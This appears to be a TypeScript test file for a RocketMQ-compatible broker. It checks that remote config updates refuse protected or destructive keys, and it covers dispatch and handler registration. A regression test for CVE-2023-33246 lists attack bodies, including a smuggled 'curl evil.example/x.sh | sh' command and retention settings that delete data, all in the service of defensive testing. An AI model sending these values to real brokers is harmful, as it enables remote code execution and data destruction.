    broker.config.aclEnable = true;
    const c = connectInMemory(broker);
    const r = await c.call(
      req(
        RequestCode.UPDATE_BROKER_CONFIG,
        undefined,
        Buffer.from('autoCreateTopicEnable=false\nfileReservedTime=24\n'),
      ),
    );
    assert.equal(r.code, ResponseCode.SUCCESS, r.remark);
    assert.equal(broker.config.autoCreateTopicEnable, false);
    assert.equal(broker.storeConfig.fileReservedTime, 24, 'the store sees the change');
    assert.equal(broker.configuration.dataVersion.counter, 1n);
    const get = await c.call(req(RequestCode.GET_BROKER_CONFIG));
    assert.equal(parseJavaProperties(get.body?.toString() ?? '').get('fileReservedTime'), '24');
  });

  test('brokerPermission bumps the topic version (routes re-registered)', LIMIT, async () => {
    const { broker } = await setup();
    // A protected key: with ACL on the hook has already required an admin account.
    broker.config.aclEnable = true;
    const r = await connectInMemory(broker).call(
      req(RequestCode.UPDATE_BROKER_CONFIG, undefined, Buffer.from('brokerPermission=4')),
    );
    assert.equal(r.code, ResponseCode.SUCCESS);
    assert.equal(broker.config.brokerPermission, 4);
    assert.equal(broker.topicConfigManager.dataVersion.counter, 1n);
  });

  test(
    'UPDATE_BROKER_CONFIG refuses anything else, naming the keys, and changes nothing (CVE-2023-33246)',
    LIMIT,
    async () => {
      const { broker } = await setup();
      const c = connectInMemory(broker);
      const attacks = [
        'brokerConfigPath=/tmp/x',
        'rocketmqHome=-c $@|sh . echo curl evil.example/x.sh | sh',
        'storePathRootDir=/tmp/evil',
        'namesrvAddr=6.6.6.6:9876',
        'configBlackList=',
        'listenPort=1',
        'autoCreateTopicEnable=false\nfilterServerNums=1',
        'msgTraceTopicName=x\ntraceOn=false',
      ];
      for (const body of attacks) {
        const r = await c.call(req(RequestCode.UPDATE_BROKER_CONFIG, undefined, Buffer.from(body)));
        assert.equal(r.code, ResponseCode.NO_PERMISSION, body);
        assert.match(r.remark ?? '', /^Can not update config in black list\. Not updatable remotely: /);
      }
      const named = await c.call(
        req(
          RequestCode.UPDATE_BROKER_CONFIG,
          undefined,
          Buffer.from('a=1\nstorePathRootDir=/x\ntraceOn=true'),
        ),
      );
      assert.equal(
        named.remark,
        'Can not update config in black list. Not updatable remotely: a, storePathRootDir',
      );
      assert.equal(broker.config.autoCreateTopicEnable, true);
      assert.equal(broker.config.storePathRootDir, '/mem/store');
      assert.equal(broker.configuration.dataVersion.counter, 0n);
    },
  );

  test(
    'UPDATE_BROKER_CONFIG with ACL off refuses every key that can delete or hide data, naming it',
    LIMIT,
    async () => {
      const { broker } = await setup();
      const c = connectInMemory(broker);
      const before = { ...broker.storeConfig };
      for (const body of [
        'diskMaxUsedSpaceRatio=0',
        'fileReservedTime=0',
        'deleteWhen=00;01;02',
        'brokerPermission=0',
        'maxMessageSize=1',
        'traceOn=false\ndiskMaxUsedSpaceRatio=0\nfileReservedTime=0',
      ]) {
        const r = await c.call(req(RequestCode.UPDATE_BROKER_CONFIG, undefined, Buffer.from(body)));
        assert.equal(r.code, ResponseCode.NO_PERMISSION, body);
        assert.match(
          r.remark ?? '',
          /^Not updatable remotely without ACL \(aclEnable=true and an admin account\): /,
        );
      }
      const both = await c.call(
        req(RequestCode.UPDATE_BROKER_CONFIG, undefined, Buffer.from('fileReservedTime=0\ntraceOn=false')),
      );
      assert.equal(
        both.remark,
        'Not updatable remotely without ACL (aclEnable=true and an admin account): fileReservedTime (a short retention deletes commit-log files); set it in broker.conf or turn ACL on',
      );
      assert.equal(broker.storeConfig.diskMaxUsedSpaceRatio, before.diskMaxUsedSpaceRatio);
      assert.equal(broker.storeConfig.fileReservedTime, before.fileReservedTime);
      assert.equal(broker.config.brokerPermission, 6);
      assert.equal(broker.config.traceOn, true, 'all or nothing');
      assert.equal(broker.configuration.dataVersion.counter, 0n);
      // The harmless keys stay open without ACL, as upstream.
      const open = await c.call(
        req(RequestCode.UPDATE_BROKER_CONFIG, undefined, Buffer.from('traceOn=false')),
      );
      assert.equal(open.code, ResponseCode.SUCCESS, open.remark);
    },
  );

  test('UPDATE_BROKER_CONFIG: bad values are named and nothing changes', LIMIT, async () => {
    const { broker } = await setup();
    broker.config.aclEnable = true;
    const c = connectInMemory(broker);
    const r = await c.call(
      req(
        RequestCode.UPDATE_BROKER_CONFIG,
        undefined,
        Buffer.from('traceOn=false\ndefaultTopicQueueNums=-1\nmaxMessageSize=big'),
      ),
    );
    assert.equal(r.code, ResponseCode.SYSTEM_ERROR);
    assert.match(r.remark ?? '', /defaultTopicQueueNums: must be 0\.\.65536, got -1/);
    assert.match(r.remark ?? '', /maxMessageSize: not an int: "big"/);
    assert.equal(broker.config.traceOn, true);
    assert.equal(
      (await c.call(req(RequestCode.UPDATE_BROKER_CONFIG))).code,
      ResponseCode.SUCCESS,
      'no body: nothing to do',
    );
    const bad = await c.call(req(RequestCode.UPDATE_BROKER_CONFIG, undefined, Buffer.from('a=\\u12')));
    assert.equal(bad.remark, 'string2Properties error');
  });

  test(
    'every allowlisted key accepts its current value (with ACL on, for the protected ones)',
    LIMIT,
    async () => {
      const { broker } = await setup();
      broker.config.aclEnable = true;
      const c = connectInMemory(broker);
      for (const key of UPDATABLE_BROKER_CONFIG.keys()) {
        const body = Buffer.from(`${key}=${formatConfigValue(broker.config[key]) ?? ''}`);
        const r = await c.call(req(RequestCode.UPDATE_BROKER_CONFIG, undefined, body));
        assert.equal(r.code, ResponseCode.SUCCESS, `${key}: ${r.remark}`);
      }
      assert.equal(broker.configuration.dataVersion.counter, BigInt(UPDATABLE_BROKER_CONFIG.size));
    },
  );
});

describe('dispatch', () => {
  test('unknown codes get upstream REQUEST_CODE_NOT_SUPPORTED', LIMIT, async () => {
    const { broker } = await setup();
    const r = await connectInMemory(broker).call(req(9999));
    assert.equal(r.code, ResponseCode.REQUEST_CODE_NOT_SUPPORTED);
    assert.equal(r.remark, ' request type 9999 not supported');
  });

  test('the VIP channel serves the same handlers', LIMIT, async () => {
    const { broker } = await setup();
    const vip = connectInMemory(broker, '10.0.0.5:1', true);
    const r = await vip.call(heartbeatRequest(consumerHeartbeat('A', 'cg', ['T'])));
    assert.equal(r.code, ResponseCode.SUCCESS);
    assert.ok(broker.consumerManager.getConsumerGroupInfo('cg'));
    assert.ok(BROKER_REQUEST_HANDLERS.size >= 21);
  });
});

describe('CHECK_CLIENT_CONFIG', () => {
  const check = (expressionType: string, subString: string) =>
    req(
      RequestCode.CHECK_CLIENT_CONFIG,
      undefined,
      encodeCheckClientRequestBody({
        clientId: 'A',
        group: 'cg',
        subscriptionData: {
          topic: 'T',
          subString,
          tagsSet: [],
          codeSet: [],
          subVersion: 1n,
          expressionType,
          classFilterMode: false,
        },
      }),
    );

  test('TAG always; SQL92 only with enablePropertyFilter and a compiling expression', LIMIT, async () => {
    const compiled: string[] = [];
    const t = await testBroker(
      {},
      {
        consumerFilter: {
          register: () => {},
          unregister: () => {},
          compile: (type, expression) => {
            compiled.push(`${type}:${expression}`);
            if (expression.includes('(')) throw new Error('Encountered "(" at line 1');
          },
        },
      },
    );
    track(t.broker);
    const c = connectInMemory(t.broker);
    assert.equal((await c.call(check('TAG', 'a || b'))).code, ResponseCode.SUCCESS);
    const off = await c.call(check('SQL92', 'a > 1'));
    assert.equal(off.code, ResponseCode.SYSTEM_ERROR);
    assert.equal(off.remark, 'The broker does not support consumer to filter message by SQL92');
    t.broker.config.enablePropertyFilter = true;
    assert.equal((await c.call(check('SQL92', 'a > 1'))).code, ResponseCode.SUCCESS);
    const bad = await c.call(check('SQL92', 'a > ('));
    assert.equal(bad.code, ResponseCode.SUBSCRIPTION_PARSE_FAILED);
    assert.equal(bad.remark, 'Encountered "(" at line 1');
    assert.deepEqual(compiled, ['SQL92:a > 1', 'SQL92:a > (']);
    assert.equal(
      (await c.call(req(RequestCode.CHECK_CLIENT_CONFIG, undefined, Buffer.from('{}')))).code,
      ResponseCode.SUCCESS,
    );
    assert.equal((await c.call(req(RequestCode.CHECK_CLIENT_CONFIG))).code, ResponseCode.SYSTEM_ERROR);
  });
});

describe('registerHandler', () => {
  test(
    'a later handler serves its code on both ports, PULL_MESSAGE on the main port only',
    LIMIT,
    async () => {
      const { broker } = await setup();
      const answer: BrokerRequestHandler = (_b, _ctx, request) =>
        createResponse(request, ResponseCode.SUCCESS, { remark: `handled ${request.code}` });
      broker.registerHandler(RequestCode.SEND_MESSAGE_V2, answer);
      broker.registerHandler(RequestCode.PULL_MESSAGE, answer);
      const main = connectInMemory(broker);
      const vip = connectInMemory(broker, '10.0.0.9:1', true);
      assert.equal((await main.call(req(RequestCode.SEND_MESSAGE_V2))).remark, 'handled 310');
      assert.equal((await vip.call(req(RequestCode.SEND_MESSAGE_V2))).remark, 'handled 310');
      assert.equal((await main.call(req(RequestCode.PULL_MESSAGE))).remark, 'handled 11');
      assert.equal(
        (await vip.call(req(RequestCode.PULL_MESSAGE))).code,
        ResponseCode.REQUEST_CODE_NOT_SUPPORTED,
      );
    },
  );
});
